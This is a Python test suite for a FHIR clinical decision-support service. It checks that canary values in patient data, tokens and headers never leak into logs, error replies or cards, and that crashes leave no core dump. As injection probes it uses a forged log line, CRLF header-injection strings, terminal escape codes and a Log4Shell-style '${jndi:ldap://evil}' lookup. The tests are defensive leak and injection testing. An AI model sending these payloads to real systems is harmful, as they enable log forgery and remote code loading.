"""No patient, token or text of anybody leaves by the log, an error, a header, a card or a core (rows 32, 41, 42)."""

import json
import os
import re
import resource
import signal
import tempfile
import unittest
from pathlib import Path
from typing import Any

from attack import CALL, DISCOVERY, head, post  # first: it makes the test tools importable
from canary import CANARY, SHOWN, canary, ids_in, with_canaries, with_marked_ids
from launched import LaunchedSandbox, LaunchedService
from secured_service import CALL_URL, DISCOVERY_URL, ISSUER, SecuredAttack
from service import patient
from tokens import Key, claims, header, token
from wire import exchange

from certificates import CertificateAuthority  # noqa: I001
from expectations import basis_of
from fhir_faults import Fault
from fhir_server import FhirServer
from hook_request import FhirAccess, Mode, hook_request
from patient_record import PatientRecord
from raw_server import RawServer

ACCESS_TOKEN = "canary-access-token"
# What somebody might write to have it stand in a log as a line of its own, or to change how a line looks.
FAKE_LINE = '{"ts":"2026-06-15T00:00:00.000Z","level":"info","event":"injected"}'
NASTY = f'canary"}}\r\n{FAKE_LINE}\n\x1b[2J\x1b[31m\x07\b\0\x7f\u2028\x85 %n %s {{}} ${{jndi:ldap://evil}} "\'\\'
LINE = re.compile(r'\{"ts":"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z","level":"(info|warning|error)","event":"[a-z-]+"'
                  r"[ -~]{0,4000}\}$")


class Canaries(SecuredAttack):

    @classmethod
    def add_clients(cls) -> None:
        cls.ec = Key(kid=canary())
        authority = CertificateAuthority()
        cls.addClassCleanup(authority.close)
        (cls.clients.folder / "ca.pem").write_bytes(authority.ca_file.read_bytes())
        cls.record = marked(patient("V12"))
        cls.fhir = FhirServer(cls.record.store, access_token=ACCESS_TOKEN, host="localhost",
                              tls=authority.server_context("DNS:localhost"))
        cls.fhir.__enter__()
        cls.addClassCleanup(cls.fhir.__exit__)
        cls.clients.add(ISSUER, cls.ec, caFile="ca.pem", fhirServers=[cls.fhir.base_url, "http://127.0.0.1"])

    @classmethod
    def setUpClass(cls) -> None:
        super().setUpClass()
        cls.order_sign = json.loads(cls.discover().text)["services"][0]

    @classmethod
    def discover(cls, **headers: str) -> Any:
        good = token(cls.ec, claims(ISSUER, DISCOVERY_URL))
        return cls.service.client.send("GET", DISCOVERY, None, {"Authorization": f"Bearer {good}"} | headers)

    def tearDown(self) -> None:
        log = self.service.output()
        self.assertNotIn(CANARY, log)
        self.assertNotIn(SHOWN, log)

    def telling_token(self) -> str:
        body = claims(ISSUER, CALL_URL, jti=canary(), sub=canary(), **{canary(): canary()})
        return token(self.ec, body, header(self.ec, **{canary(): canary()}))

    def send(self, request: Any, authorization: str | None = None) -> Any:
        """The answer to a call that is full of canaries, and has none itself."""
        headers = {name: canary() for name in (
            "User-Agent", "Cookie", "Referer", "Origin", "X-Forwarded-For", "X-Request-Id", "traceparent", "tracestate",
            "Accept", "Accept-Language", "From", "Via", "Forwarded", "X-Real-Ip", canary())}
        headers["Authorization"] = authorization or f"Bearer {self.telling_token()}"
        answer = self.service.client.send("POST", f"{CALL}?{canary()}={canary()}", request, headers)
        self.assert_tells_nothing(answer)
        return answer

    def assert_tells_nothing(self, answer: Any) -> None:
        self.assertNotIn(CANARY, answer.text + str(answer.headers))
        if answer.status != 200:
            self.assertNotIn(SHOWN, answer.text + str(answer.headers))

    def request(self, mode: Mode, **options: Any) -> Any:
        access = FhirAccess(self.fhir.base_url, ACCESS_TOKEN)
        body = hook_request(self.order_sign, self.record, mode=mode, fhir_access=access, **options)
        return body | {"extension": {canary(): canary()}, canary(): canary()}

    def test_row_41_a_call_that_is_answered(self) -> None:
        """Prefetched, fetched and in pages; ids of the record stand where they may, and nowhere else."""
        for mode in (Mode.FULL, Mode.FHIR, Mode.PAGED):
            with self.subTest(mode):
                request = self.request(mode)
                self.assertGreater(json.dumps(request).count(CANARY), 10 if mode == Mode.FHIR else 50)
                answer = self.send(request)
                self.assertEqual(answer.status, 200, answer.text[:300])
                self.assertGreater(len(answer.body["cards"]), 0)
                self.assertIn(SHOWN, answer.text)
                for card in answer.body["cards"]:
                    self.assertNotIn(SHOWN, json.dumps(without_ids(card)))

    def test_row_41_calls_that_are_refused(self) -> None:
        full = self.request(Mode.FULL)
        other = {"resourceType": "Condition", "id": canary(), "subject": {"reference": f"Patient/{canary()}"}}
        for change in ({"hook": canary()}, {"context": full["context"] | {"patientId": f"{canary()}/"}},
            {"context": {}},
                       {"prefetch": {canary(): canary()}, "fhirServer": f"https://{canary()}.example"},
                       {"prefetch": full["prefetch"] | {"conditions": {"resourceType": "Bundle",
                           "entry": [{"resource": other}]}}},
                       {"prefetch": full["prefetch"] | {"conditions": canary()}, "fhirServer": canary()}):
            with self.subTest(list(change)):
                self.assertIn(self.send(full | change).status, (400, 412))
        for text in (f'{{"{CANARY}": "{CANARY}', f'"{CANARY}"', CANARY, f'{{"{CANARY}": 1, "{CANARY}": 2}}'):
            self.assertEqual(self.send(text).status, 400)

    def test_row_41_callers_that_are_refused(self) -> None:
        for authorization in (f"Bearer {canary()}", f"Basic {canary()}", canary(),
            f"Bearer {canary()}.{canary()}.{canary()}",
                              f"Bearer {token(Key(kid=canary()), claims(canary(), canary()))}",
                              f"Bearer {token(Key(kid=canary()), claims(ISSUER, CALL_URL, jti=canary()))}",
                              f"Bearer {token(self.ec, claims(ISSUER, canary(), tenant=canary()))}"):
            self.assertEqual(self.send(self.request(Mode.FULL), authorization).status, 401)
        log = self.service.output()
        for part in self.telling_token().split(".")[:1]:
            self.assertNotIn(part, log)

    def test_row_41_lines_and_headers_of_every_kind(self) -> None:
        for content in (head(canary().upper(), f"/{canary()}"), head("GET", f"/{canary()}?{canary()}#{canary()}"),
                        head("POST", f"http://{canary()}@{canary()}{CALL}"),
                        head("GET", DISCOVERY, host=f"Host: {canary()}@\r\n"),
                        head("GET", DISCOVERY, f"Expect: {canary()}\r\n"),
                        head("GET", DISCOVERY, f"{canary()} : x\r\n"),
                        head("POST", CALL, f"Transfer-Encoding: {canary()}\r\n"), f"{canary()}\r\n\r\n".encode(),
                        head("POST", CALL, f"Content-Type: text/{canary()}\r\n",
                            f"Authorization: Bearer {self.telling_token()}\r\n"),
                        head("POST", CALL, f"Content-Encoding: {canary()}\r\n",
                            f"Authorization: Bearer {self.telling_token()}\r\n"),
                        head("POST", CALL, f"Content-Length: {canary()}\r\n")):
            with self.subTest(content[:30]):
                for answer in exchange(self.service.port, content, half_close=True):
                    self.assert_tells_nothing(answer)

    def test_row_41_servers_that_fail(self) -> None:
        """Their bodies, headers and reasons are full of canaries, too (fhir_faults.CANARY)."""
        for fault in (Fault.SERVER_ERROR, Fault.FORBIDDEN, Fault.HTML, Fault.OPERATION_OUTCOME, Fault.WRONG_TYPE,
                      Fault.REDIRECT, Fault.TRUNCATED, Fault.WRONG_PATIENT, Fault.FOREIGN_NEXT):
            for resource_type in ("Condition", "AllergyIntolerance", "metadata"):
                self.fhir.faults = {resource_type: fault}
                with self.subTest(fault, of=resource_type):
                    self.assertIn(self.send(self.request(Mode.FHIR)).status, (200, 412))
        self.fhir.faults = {}


class SandboxCanaries(unittest.TestCase):

    def test_row_41_bytes_of_a_server_that_are_no_answer(self) -> None:
        service = LaunchedSandbox("--fhir-deadline", "500")
        self.addCleanup(service.stop)
        order_sign, record = service.order_sign(), marked(patient("V12"))
        bad = f'HTTP/1.1 500 {CANARY}\r\nX: {CANARY}\r\nWWW-Authenticate: Bearer realm="{CANARY}"\r\n'
        for content in (f"{CANARY}\r\n\r\n", f"HTTP/1.1 {CANARY}\r\n\r\n", f"{bad}Content-Length: 6\r\n\r\n{CANARY}",
                        f"{bad}Content-Length: {CANARY}\r\n\r\n",
                        f"{bad}Content-Encoding: {CANARY}\r\nContent-Length: 0\r\n\r\n",
                        f"{bad.replace('500', '302')}Location: http://{CANARY}/\r\nContent-Length: 0\r\n\r\n",
                        f"{bad.replace('500', '503')}Retry-After: {CANARY}\r\nContent-Length: 0\r\n\r\n",
                        f"{bad.replace('500', '200')}Content-Length: 8\r\n\r\n\"{CANARY}\""):
            with self.subTest(content[:30]), RawServer(content.encode()) as server:
                request = hook_request(order_sign, record, mode=Mode.FHIR, fhir_access=FhirAccess(server.base_url,
                    ACCESS_TOKEN))
                answer = service.client.send("POST", CALL, request)
                self.assertEqual(answer.status, 412)
                self.assertNotIn(CANARY, answer.text + service.output())

    def test_row_32_no_core(self) -> None:
        """A process that dies leaves no copy of its memory, even where the machine would allow it."""
        with tempfile.TemporaryDirectory() as name:
            _, most = resource.getrlimit(resource.RLIMIT_CORE)
            service = LaunchedSandbox(folder=Path(name), limits={resource.RLIMIT_CORE: (most, most)})
            limits = Path(f"/proc/{service.pid}/limits").read_text(encoding="ascii")
            self.assertRegex(limits, r"Max core file size +0 ")
            os.kill(service.pid, signal.SIGSEGV)
            service.process.wait(30)
            self.assertEqual(list(Path(name).iterdir()), [])


class LogLines(SecuredAttack):

    def assert_log_is_clean(self, service: LaunchedService) -> None:
        """Every line is one of ours, whatever was sent."""
        lines = [line for line in service.output().split("\n") if line]
        self.assertGreater(len(lines), 10)
        for line in lines:
            self.assertRegex(line, LINE)
            self.assertNotIn("injected", line)
            self.assertIsInstance(json.loads(line), dict)

    def test_row_42_lines_that_others_write(self) -> None:
        for place in ("iss", "aud", "jti", "sub", "tenant", "kid", "typ", "jku", "alg"):
            in_header = {place: NASTY} if place in ("kid", "typ", "jku", "alg") else {}
            in_claims = {} if in_header else {place: NASTY}
            text = token(self.ec, claims(ISSUER, CALL_URL) | in_claims, header(self.ec) | in_header)
            self.call(f"Bearer {text}")
        for size in (1, 1_000, 2**20):
            for member in ("hook", "hookInstance", "fhirServer", "prefetch", "extension"):
                self.call(f"Bearer {self.good()}", json.dumps({"hook": "order-sign",
                    member: NASTY * (size // len(NASTY) + 1)}))
        printable = "".join(letter if " " <= letter <= "~" else "%0a" for letter in NASTY)
        for content in (head(re.sub(r"\W", "!", NASTY).encode("ascii", "ignore").decode(), "/x"), head("GET",
            "/" + printable.replace(" ", "%20")),
                        head("GET", DISCOVERY, f"User-Agent: {printable}\r\n", f"X-Request-Id: {printable}\r\n"),
                        head("GET", DISCOVERY, f"X: y\r\n {FAKE_LINE}\r\n"),
                        head("GET", f"{DISCOVERY}?\r\n{FAKE_LINE}"),
                        b"GET / HTTP/1.1\r\nHost: x\r\nX: \x1b[31m\x00\r\n\r\n", (FAKE_LINE + "\n").encode() * 100,
                        post(b"x", f"traceparent: {printable}\r\n", f"Authorization: {printable}\r\n")):
            exchange(self.service.port, content, half_close=True)
        self.assert_log_is_clean(self.service)

    def test_row_42_lines_that_servers_write(self) -> None:
        service = LaunchedSandbox("--fhir-deadline", "500")
        self.addCleanup(service.stop)
        record, order_sign = patient("V03"), service.order_sign()
        outcome = json.dumps({"resourceType": "OperationOutcome", "issue": [
            {"severity": "error", "code": NASTY, "diagnostics": NASTY, "details": {"text": NASTY}}]})
        version = json.dumps({"resourceType": "CapabilityStatement", "fhirVersion": NASTY})
        for status in ("500 x", f"500 {FAKE_LINE}", "200 OK", "418 \x1b[31m"):
            for body in (outcome, version, NASTY, NASTY * 4000):
                content = body.encode()
                lines = f"HTTP/1.1 {status}\r\nContent-Length: {len(content)}\r\nX: {FAKE_LINE}\r\n\r\n"
                with RawServer(lines.encode() + content) as server:
                    service.client.send("POST", CALL, hook_request(
                        order_sign, record, mode=Mode.FHIR, fhir_access=FhirAccess(server.base_url)))
        self.assert_log_is_clean(service)


def marked(record: PatientRecord) -> PatientRecord:
    """The record with canaries in all that is text, and its ids as those that may be shown."""
    document = {"as_of": record.as_of, "title": "", "patientId": record.patient_id, "draftOrders": with_canaries(
        record.draft_orders), "record": {"resourceType": "Bundle", "entry": [
            {"resource": with_canaries(resource)} for resource in record.resources]}}
    text = with_marked_ids(json.dumps(document), [record.patient_id, *ids_in(document["record"])])
    return PatientRecord(json.loads(text))


def without_ids(card: Any) -> Any:
    """The card without the places where ids of the record may stand."""
    for fact in basis_of(card).get("facts", []):
        fact.pop("source", None)
    for suggestion in card.get("suggestions", []):
        for action in suggestion["actions"]:
            action["resource"].pop("subject")
            action["resource"].pop("encounter", None)
    return card


if __name__ == "__main__":
    unittest.main()
